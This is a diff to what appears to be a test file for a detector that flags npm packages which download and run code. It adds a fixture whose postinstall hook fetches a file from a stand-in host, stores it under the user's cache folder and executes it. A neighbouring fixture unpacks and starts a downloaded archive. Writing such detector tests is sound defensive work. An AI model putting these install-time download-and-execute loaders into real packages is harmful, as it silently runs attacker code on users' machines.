@@ -6,6 +6,14 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a download is kept in one of several folders of settings and started at once',
+      files: {
+        'package.json': { name: 'inert', version: '1.0.0', scripts: { postinstall: 'node build.js' } },
+        'build.js': `const fs = require('fs'), path = require('path'); require('axios')({ url: 'https://cdn.invalid/x', responseType: 'stream' }).then(answer => { const file = path.join(process.env.APPDATA || process.env.HOME, '.cache', 'inert' + (process.platform === 'win32' ? '.exe' : '')); answer.data.pipe(fs.createWriteStream(file)); require('child_process').exec('"' + file + '"'); });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'an archive out of memory is unpacked and a program in it started',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); const Zip = require('adm-zip'); const folder = path.join(os.tmpdir(), 'x'); fetch('https://source.invalid/a').then(r => r.arrayBuffer()).then(b => { new Zip(Buffer.from(b)).extractAllTo(folder, true); cp.spawn(path.join(folder, 'run.exe')) });`,
